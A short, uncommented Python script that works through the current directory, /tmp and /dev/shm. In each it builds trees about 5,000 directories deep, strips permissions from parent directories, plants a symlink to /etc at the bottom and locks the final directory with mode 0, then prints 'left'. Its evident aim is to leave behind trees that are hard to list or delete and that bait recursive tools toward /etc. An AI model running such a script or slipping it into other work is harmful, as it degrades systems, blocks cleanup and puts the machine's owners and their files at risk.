import os

for place in (".", "/tmp", "/dev/shm"):
    os.chdir(place)
    for _ in range(5_000):
        os.mkdir("d" * 200) if place == "/tmp" else os.mkdir("d")
        os.chdir("d" * 200 if place == "/tmp" else "d")
        if place == "." and _ % 1000 == 0:
            os.chmod("..", 0o300)
    os.symlink("/etc", "l")
    os.chmod(".", 0)
print("left")
